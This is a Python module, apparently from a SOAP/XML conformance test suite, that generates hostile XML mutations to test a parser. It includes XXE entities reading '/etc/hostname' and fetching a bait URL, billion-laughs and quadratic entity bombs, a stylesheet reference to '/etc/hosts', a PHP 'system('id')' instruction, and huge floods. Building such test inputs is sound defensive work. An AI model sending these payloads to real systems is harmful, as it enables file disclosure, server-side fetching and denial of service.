"""XML that is made to be expanded, fetched, or never finished.

It is put together as bytes: no careful writer would let it out.

Spec: OWASP XML External Entity Prevention / CWE-611, CWE-776, CWE-400 / XML 1.0 §4.
"""

from __future__ import annotations

from typing import Final

from conformance.attacks.attack import Mutation
from conformance.attacks.message import Message

_DECLARATION_END: Final = b"?>"


def behind_declaration(content: bytes) -> Mutation:
    """Put bytes between the XML declaration and the envelope."""

    def mutate(message: Message) -> Message:
        head, mark, rest = message.envelope.partition(_DECLARATION_END)
        return message.with_envelope(head + mark + content + rest)

    return mutate


def fetching(template: bytes) -> Mutation:
    """Put a declaration that names the bait before the envelope."""

    def mutate(message: Message) -> Message:
        content = template.replace(b"BAIT", message.ground.bait.encode())
        return behind_declaration(content)(message)

    return mutate


def in_header(content: bytes) -> Mutation:
    """Put bytes into the SOAP header."""

    def mutate(message: Message) -> Message:
        opening = b"<soap:Header>"
        return message.with_envelope(
            message.envelope.replace(opening, opening + content, 1)
        )

    return mutate


def in_other_encoding(message: Message) -> Message:
    """Hide a document type in UTF-16."""
    with_type = behind_declaration(b'<!DOCTYPE x [<!ENTITY e "e">]>')(message)
    text = with_type.envelope.decode().replace("UTF-8", "UTF-16", 1)
    return message.with_envelope(_marked(text))


def _marked(text: str) -> bytes:
    return text.encode("utf-16")


def declared_as(encoding: bytes) -> Mutation:
    """Declare another encoding than the bytes have."""

    def mutate(message: Message) -> Message:
        envelope = message.envelope.replace(b"UTF-8", encoding, 1)
        return message.with_envelope(envelope)

    return mutate


def cut_short(message: Message) -> Message:
    """Leave the last bytes away, inside the last tag."""
    return message.with_envelope(message.envelope[:-4] + b"    ")


def nested(depth: int) -> bytes:
    """Write elements inside elements."""
    return b"<x>" * depth + b"</x>" * depth


def attributes(number: int) -> bytes:
    """Write one element with very many attributes."""
    return b"<x " + b" ".join(b'a%d=""' % each for each in range(number)) + b"/>"


def namespaces(number: int) -> bytes:
    """Write one element that declares very many namespaces."""
    declared = (b'xmlns:n%d="urn:%d"' % (each, each) for each in range(number))
    return b"<x " + b" ".join(declared) + b"/>"


def _laughing() -> bytes:
    lines = [b'<!ENTITY l0 "lol">']
    for level in range(1, 10):
        again = b"&l%d;" % (level - 1)
        lines.append(b'<!ENTITY l%d "%s">' % (level, again * 10))
    return b"<!DOCTYPE x [" + b"".join(lines) + b"]>"


def laughing(message: Message) -> Message:
    """Refer to the last of ten entities, each ten times the one before."""
    bombed = behind_declaration(_laughing())(message)
    return in_header(b"<x>&l9;</x>")(bombed)


def with_null(message: Message) -> Message:
    """Put a character that XML forbids into the header."""
    return in_header(b"<x>\0</x>")(message)


MUTATIONS: Final[dict[str, Mutation]] = {
    # Document types and entities
    "dtd": behind_declaration(b"<!DOCTYPE soap:Envelope>"),
    "dtd-behind-comment": behind_declaration(
        b"<!--" + b"x" * 20_000 + b'--><!DOCTYPE x [<!ENTITY e "e">]>'
    ),
    "dtd-in-utf-16": in_other_encoding,
    "entity-of-file": behind_declaration(
        b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/hostname">]>'
    ),
    "entity-of-bait": fetching(b'<!DOCTYPE x [<!ENTITY e SYSTEM "BAIT">]>'),
    "dtd-of-bait": fetching(b'<!DOCTYPE x SYSTEM "BAIT">'),
    "parameter-entity-of-bait": fetching(
        b'<!DOCTYPE x [<!ENTITY % e SYSTEM "BAIT"> %e;]>'
    ),
    "billion-laughs": laughing,
    "quadratic-blow-up": behind_declaration(
        b'<!DOCTYPE x [<!ENTITY e "' + b"e" * 100_000 + b'">]>'
    ),
    "entity-undefined": in_header(b"<x>&undefined;</x>"),
    # Instructions
    "style-sheet": behind_declaration(b'<?xml-stylesheet href="file:///etc/hosts"?>'),
    "instruction-in-header": in_header(b"<?php system('id') ?>"),
    # Floods
    "attribute-flood": in_header(attributes(100_000)),
    "namespace-flood": in_header(namespaces(20_000)),
    "element-flood": in_header(b"<x/>" * 150_000),
    "nested-deeply": in_header(nested(100)),
    "nested-very-deeply": in_header(nested(500)),
    "nested-without-end": in_header(nested(100_000)),
    "text-huge": in_header(b"<x>" + b"QUJD" * 1_200_000 + b"</x>"),
    "name-huge": in_header(b"<" + b"x" * 200_000 + b"/>"),
    # Letters
    "cut-short": cut_short,
    "null-character": with_null,
    "not-utf-8": in_header(b"<x>\xff\xfe</x>"),
    "utf-8-overlong": in_header(b"<x>\xc0\xbc</x>"),
    "encoding-unknown": declared_as(b"UTF-7"),
    "encoding-contradicts": declared_as(b"UTF-16"),
    "attribute-twice": in_header(b'<x a="1" a="2"/>'),
    "prefix-undeclared": in_header(b"<nobody:x/>"),
}
"""The mutations of this module by the id of their attack."""
